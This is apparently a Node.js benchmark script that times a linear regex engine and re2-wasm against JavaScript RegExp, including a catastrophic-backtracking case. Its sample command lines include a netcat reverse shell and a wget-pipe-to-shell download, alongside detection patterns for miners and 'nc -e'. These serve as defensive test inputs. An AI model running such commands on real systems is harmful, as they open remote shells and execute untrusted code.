#!/usr/bin/env node
// Pattern engines benchmark: the core's linear engine and re2-wasm against JavaScript RegExp on benign
// user patterns, and a catastrophic-backtracking pattern where RegExp is time-boxed in a child process.
// Run after `pnpm build`:  node bench/patterns.mjs
import { spawn } from 'node:child_process';
import { pathToFileURL } from 'node:url';
import { linearPatternEngine } from '../packages/core/dist/patterns/index.js';
import { re2PatternEngine } from '../packages/re2-engine/dist/index.js';

const IMAGES = [
  'nginx:1.25', 'docker.io/library/alpine:3.19', 'ghcr.io/acme/billing-worker:2024.11.3', 'busybox',
  'registry.k8s.io/kube-proxy:v1.30.2', 'quay.io/prometheus/node-exporter:v1.8.1', 'bitnami/kubectl:latest',
  'public.ecr.aws/aws-cli/aws-cli:2.15.0', 'mcr.microsoft.com/dotnet/runtime:8.0', 'curlimages/curl:8.7.1',
  'postgres:16-alpine@sha256:4e8c9e5a0d3b7f1c2a6e9d8b7c6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a',
];
const COMMANDS = [
  '/bin/sh -c pg_dump -h db -U app app | gzip > /backup/app.sql.gz',
  'python manage.py clearsessions', 'sh -c curl -fsS http://svc.internal/healthz || exit 1',
  'bash -c nc -e /bin/sh 203.0.113.7 4444', '/usr/local/bin/cleanup --older-than 7d --dry-run=false',
  'kubectl delete pod -l job=stale --field-selector=status.phase==Succeeded',
  'sh -c wget -qO- http://198.51.100.4/x.sh | sh', 'node dist/cron/send-digest.js --tenant all',
];

function auditEvent(size) {
  const items = [];
  let json = '';
  for (let i = 0; json.length < size; i++) {
    items.push({
      name: `job-${i}`, image: `registry.example.com/team/app-${i}:1.2.${i}`,
      command: ['sh', '-c', `echo run ${i} && /opt/app/bin/task --shard ${i % 16} --since 24h`],
      env: [{ name: 'LOG_LEVEL', value: 'info' }, { name: 'REGION', value: 'eu-west-1' }],
    });
    json = JSON.stringify({ kind: 'Event', apiVersion: 'audit.k8s.io/v1', verb: 'create', user: { username: 'system:serviceaccount:ci:deployer' }, objectRef: { resource: 'cronjobs', namespace: 'ci' }, requestObject: { spec: { jobTemplate: { spec: { template: { spec: { containers: items } } } } } } });
  }
  return json;
}

const INPUTS = [
  { name: 'image names', texts: IMAGES },
  { name: 'command lines', texts: COMMANDS },
  { name: '100 KB audit event', texts: [auditEvent(100_000)] },
];
const PATTERNS = ['stratum\\+tcp://|xmrig', '(?i)nc(at)? -e', '[a-z0-9]{32,}', '^(docker\\.io/)?(library/)?(alpine|busybox)(:|$)'];

function toRegExp(pattern) {
  const flags = pattern.startsWith('(?i)') ? 'iu' : 'u';
  return new RegExp(pattern.replace(/^\(\?i\)/, ''), flags);
}

/** Mean ns per test() call over the inputs, measured for about `budgetMs`. */
function measure(matcher, texts, budgetMs = 150) {
  let sink = 0;
  for (let i = 0; i < 50; i++) for (const t of texts) sink += matcher.test(t) ? 1 : 0; // warm-up
  let calls = 0;
  const start = process.hrtime.bigint();
  let elapsed = 0n;
  const budget = BigInt(budgetMs) * 1_000_000n;
  while (elapsed < budget) {
    for (let i = 0; i < 10; i++) for (const t of texts) sink += matcher.test(t) ? 1 : 0;
    calls += 10 * texts.length;
    elapsed = process.hrtime.bigint() - start;
  }
  if (sink < 0) console.log(sink);
  return Number(elapsed) / calls;
}

const fmtNs = (ns) => (ns >= 1e6 ? `${(ns / 1e6).toFixed(2)} ms` : ns >= 1e3 ? `${(ns / 1e3).toFixed(1)} µs` : `${ns.toFixed(0)} ns`);
const pad = (s, n) => String(s).padEnd(n);
const lpad = (s, n) => String(s).padStart(n);

function table(headers, rows) {
  const widths = headers.map((h, i) => Math.max(h.length, ...rows.map((r) => String(r[i]).length)));
  const line = (cells) => '  ' + cells.map((c, i) => (i < 2 ? pad(c, widths[i]) : lpad(c, widths[i]))).join('  ');
  console.log(line(headers));
  console.log('  ' + widths.map((w) => '-'.repeat(w)).join('  '));
  for (const r of rows) console.log(line(r));
}

/** Runs `pattern` with RegExp over `text` in a child process, killed after `timeoutMs`. */
function timeBoxedRegExp(pattern, textExpr, timeoutMs) {
  return new Promise((resolve) => {
    const code = `const t=${textExpr};const s=process.hrtime.bigint();const r=new RegExp(${JSON.stringify(pattern)},'u').test(t);process.stdout.write(JSON.stringify({r,ms:Number(process.hrtime.bigint()-s)/1e6}))`;
    const child = spawn(process.execPath, ['-e', code], { stdio: ['ignore', 'pipe', 'inherit'] });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    const timer = setTimeout(() => child.kill('SIGKILL'), timeoutMs);
    child.on('exit', () => {
      clearTimeout(timer);
      resolve(out ? JSON.parse(out) : null);
    });
  });
}

export async function runPatternsBench() {
  console.log('\n== patterns ==');
  console.log('test() cost per call, mean over the inputs; ratio = engine time / RegExp time\n');
  const rows = [];
  for (const pattern of PATTERNS) {
    const engines = [toRegExp(pattern), linearPatternEngine.compile(pattern), re2PatternEngine.compile(pattern)];
    for (const input of INPUTS) {
      const [js, linear, re2] = engines.map((m) => measure(m, input.texts));
      rows.push([pattern, input.name, fmtNs(js), fmtNs(linear), `${(linear / js).toFixed(2)}x`, fmtNs(re2), `${(re2 / js).toFixed(2)}x`]);
    }
  }
  table(['pattern', 'input', 'RegExp', 'linear', 'ratio', 're2-wasm', 'ratio'], rows);

  const hostile = '(a+)+$';
  const text = 'a'.repeat(100_000) + '!';
  console.log(`\nhostile pattern ${hostile} over 100,000 'a' followed by '!' (no match)\n`);
  const hostileRows = [];
  for (const engine of [linearPatternEngine, re2PatternEngine]) {
    const start = process.hrtime.bigint();
    const compiled = engine.compile(hostile);
    const result = compiled.test(text);
    const ms = Number(process.hrtime.bigint() - start) / 1e6;
    hostileRows.push([engine.name, String(result), `${ms.toFixed(2)} ms`]);
  }
  const js = await timeBoxedRegExp(hostile, `'a'.repeat(100000)+'!'`, 2000);
  hostileRows.push(['RegExp (child process)', js ? String(js.r) : '-', js ? `${js.ms.toFixed(2)} ms` : '> 2 s (killed)']);
  table(['engine', 'match', 'time'], hostileRows);
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) await runPatternsBench();
